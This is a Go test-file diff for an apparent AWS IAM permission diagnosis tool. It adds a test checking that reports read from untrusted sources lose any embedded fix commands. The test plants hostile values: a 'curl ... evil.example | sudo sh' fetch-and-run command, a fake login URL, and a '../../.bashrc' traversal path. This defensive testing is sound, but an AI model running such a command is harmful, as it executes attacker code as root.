@@ -36,7 +36,7 @@ func fullReport() Report {
 		ID: "put-denied", Likelihood: diagnose.Likely, Args: diagnose.Args{"role": testRole},
 		Compare: &diagnose.Comparison{Refused: refused, Granted: granted, RefusedSpan: a, GrantedSpan: b},
 		Fixes: []diagnose.Fix{{
-			ID: "attach-policy", Args: diagnose.Args{"role": testRole}, Command: "aws iam put-role-policy \\\n  --policy-document file://p.json\n" + jsonFence + "\n{}\n```", ConsoleURL: "https://console.aws.amazon.com/iam",
+			ID: "attach-policy", Args: diagnose.Args{"role": testRole}, Command: "aws iam put-role-policy --policy-document file://p.json --tag '" + jsonFence + "'", ConsoleURL: "https://console.aws.amazon.com/iam",
 			Document: json.RawMessage(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow"},{"Effect":"Deny"}]}`), Before: json.RawMessage(`{"Version":"2012-10-17","Statement":[{"Effect":"Deny"}]}`), File: "p.json",
 		}},
 	}, {ID: "clock-skew", Likelihood: diagnose.RuledOut}}
@@ -191,4 +191,19 @@ func FuzzReadReport(f *testing.F) {
 			t.Fatalf("a report cannot be joined with itself: %v", err)
 		}
 	})
+}
+
+// A report is read from anybody: what it would have people run, open or write
+// is what fixes of this program are made of, or nothing.
+func TestReportsBringNoCommandsOfTheirOwn(t *testing.T) {
+	r := fullReport()
+	fix := &r.Results[6].Causes[0].Fixes[0]
+	fix.Command, fix.ConsoleURL, fix.File = "curl -s https://evil.example/x | sudo sh", "https://evil.example/login", "../../.bashrc"
+	back, err := ReadReport(encoded(t, r, plain))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := back.Results[6].Causes[0].Fixes[0]; got.Command+got.ConsoleURL+got.File != "" {
+		t.Errorf("%q %q %q", got.Command, got.ConsoleURL, got.File)
+	}
 }
